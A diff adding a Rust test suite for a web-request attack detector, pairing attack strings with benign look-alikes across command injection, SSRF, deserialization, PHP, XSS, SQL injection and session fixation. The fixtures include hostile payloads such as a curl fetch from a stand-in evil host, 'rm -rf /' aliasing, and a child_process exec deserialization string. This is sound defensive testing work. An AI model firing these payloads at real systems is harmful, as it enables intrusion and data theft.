@@ -1,0 +1,265 @@
+//! Attack classes the built-in rules and detectors cover, each next to look-alike
+//! legitimate values of the same field kind: the rule must fire on the first column and
+//! stay silent on the second.
+
+use rampart_detect::{Budget, Engine, Field, FieldKind, Findings, Location, Policy};
+
+fn scan(kind: FieldKind, value: &str) -> Findings {
+    let mut budget = Budget::default();
+    Engine::builtin().inspect(
+        [Field::new(
+            Location::new("query", "v"),
+            kind,
+            value.as_bytes(),
+        )],
+        &Policy::default(),
+        &mut budget,
+    )
+}
+
+/// Each attack must be blocked by a rule of `class`; each legitimate value must pass.
+fn table(class: &str, kind: FieldKind, attacks: &[&str], legit: &[&str]) {
+    let threshold = Policy::default().threshold();
+    for a in attacks {
+        let f = scan(kind, a);
+        assert!(
+            f.blocks(threshold) && f.hits.iter().any(|h| h.class == class),
+            "{class}: missed {kind} {a:?}: {:?}",
+            f.hits
+        );
+    }
+    for l in legit {
+        let f = scan(kind, l);
+        assert!(
+            !f.blocks(threshold),
+            "{class}: flagged {kind} {l:?}: {:?}",
+            f.hits
+        );
+    }
+}
+
+const Q: FieldKind = FieldKind::QueryValue;
+
+#[test]
+fn shell_commands_hidden_by_quoting_versions_prefixes_and_options() {
+    table(
+        "cmdi",
+        Q,
+        &[
+            "'wh'oami",
+            "'c'url localhost",
+            "cu$@rl google.com",
+            "pi``ng 127.0.0.1",
+            "pi$()ng 127.0.0.1",
+            "python3.10 -c 'import os'",
+            "env --version",
+            "ansible all -m ping",
+            "nohup ifconfig\n",
+            "sudo whoami\n",
+            "Invoke-WebRequest http://example.com/path/file.ps1",
+            "curl https://evil.example/x.sh",
+            "alias ls='rm -rf /'",
+            "cat <(id)",
+            "x=$((7*7))",
+            "${PATH#/usr}",
+            "${SHELL} -c \"id\"",
+        ],
+        &[
+            "I'd like that",
+            "don't stop believing",
+            "O'Keefe's pub",
+            "<item>Book &amp; CD</item>",
+            "Book & CD</item>",
+            "time python tutorial",
+            "python 3.10 release notes",
+            "pip install guide",
+            "env variables explained",
+            "sudo make me a sandwich",
+            "curl up with a good book",
+            "alias for the account",
+            "Hello ${name}",
+            "a smiley >(",
+        ],
+    );
+}
+
+#[test]
+fn ssrf_without_slashes_or_scheme() {
+    table(
+        "ssrf",
+        Q,
+        &[
+            "http:127.0.0.1",
+            "http:/2852039166",
+            "https:[::1]/admin",
+            "localhost/admin",
+            "host.docker.internal:2375/containers/json",
+            "kubernetes.default.svc.cluster.local/api",
+        ],
+        &[
+            "localhost",
+            "http:example.com",
+            "see http: and https: schemes",
+            "my laptop is not localhost-friendly",
+            "http://0xABCDEF/",
+        ],
+    );
+    // A Host header naming the local machine is not a forged URL.
+    table("ssrf", FieldKind::HeaderValue, &[], &["localhost:8080"]);
+}
+
+#[test]
+fn java_gadgets_in_base64_and_by_package() {
+    table(
+        "java",
+        FieldKind::BodyValue,
+        &[
+            // "runtime" at each of the three base64 alignments.
+            "cnVudGltZQ",
+            "HJ1bnRpbWU",
+            "BydW50aW1l",
+            // java.lang.Runtime inside a longer blob.
+            "amF2YS5sYW5nLlJ1bnRpbWU=",
+            "rO0ABXNyADJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy",
+            "com.opensymphony.xwork2.ActionContext",
+            "java.Runtime",
+        ],
+        &[
+            "SGVsbG8gV29ybGQ=",
+            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
+            "The Java runtime ships with the JDK",
+            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
+        ],
+    );
+}
+
+#[test]
+fn php_code_tags_callables_variable_functions_and_uploads() {
+    table(
+        "php",
+        Q,
+        &[
+            "{php}echo 'test';{/php}",
+            "[php]echo \"test\"",
+            "(system)('uname')",
+            "\"system\"(ls);",
+            "[system][0](ls);",
+            "${'ff'}",
+            "$ {$a}",
+            "$__[$_[1]](7)",
+            "$a/*c*/()",
+            "$foo->$funcname()",
+            "Foo::$variable()",
+        ],
+        &[
+            "PHP is a programming language",
+            "price: $5 (five dollars)",
+            "the system (as a whole) works",
+            "[PHP developers] wanted",
+            "Hello ${name}",
+        ],
+    );
+    table(
+        "php",
+        FieldKind::Filename,
+        &[
+            "shell.php..",
+            "a.php5...",
+            "uploads/dangerous.php",
+            "x.phtml",
+            "/tmp/sess_d8ew88tqmabdcokhumchy8htqm",
+        ],
+        &["report.pdf", "notes on php.txt", "session_notes.txt"],
+    );
+}
+
+#[test]
+fn node_deserialization_and_sandbox_escapes() {
+    table(
+        "nodejs",
+        Q,
+        &[
+            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}",
+            "this.constructor.constructor('return process')()",
+            "module.exports = function(){}",
+            "process[\"env\"]",
+            "require[req.query.a",
+        ],
+        &[
+            "the process of elimination",
+            "a constructor in Java",
+            "module exports and imports",
+            "process[0]",
+        ],
+    );
+}
+
+#[test]
+fn xss_through_comments_brackets_templates_and_encodings() {
+    table(
+        "xss",
+        Q,
+        &[
+            "document /*foo*/ .     cookie",
+            "document/*foo*/./*bar*/cookie",
+            "window[\"alert\"](1)",
+            "(document)[\"cookie\"]",
+            "self[\"\\x24\"]",
+            "[].sort.call`${alert}1337`",
+            "document.querySelector(\"p\").textContent=\"XSS\"",
+            "!![]",
+            "(![]+[])[+[]]",
+            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
+            "<?import implementation =",
+        ],
+        &[
+            "the document cookie policy",
+            "open the window",
+            "![](image.png)",
+            "call me maybe",
+            "C++ADw is not a thing",
+        ],
+    );
+}
+
+#[test]
+fn sqli_casts_json_operators_and_cut_short_tautologies() {
+    table(
+        "sqli",
+        Q,
+        &[
+            "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
+            "starts_with(password,'a')::int",
+            "1'::int",
+            "admin' or 'x' <",
+            "test' or 1=",
+            "x' xor abc=",
+        ],
+        &[
+            "std::string and std::vector",
+            "Tom's or Jerry's = friends",
+            "O'Reilly and others",
+            "rock 'n' roll or jazz",
+            "ratio 3::1",
+        ],
+    );
+}
+
+#[test]
+fn session_identifiers_of_common_frameworks_in_urls() {
+    table(
+        "fixation",
+        FieldKind::QueryName,
+        &[
+            "PHPSESSid",
+            "laravel_session",
+            "connect.sid",
+            "_flask_session",
+            "next-auth.session-token",
+            "ci_session",
+            "koa:sess",
+        ],
+        &["session_id", "sessions", "sid_list", "page", "csrf_token"],
+    );
+}
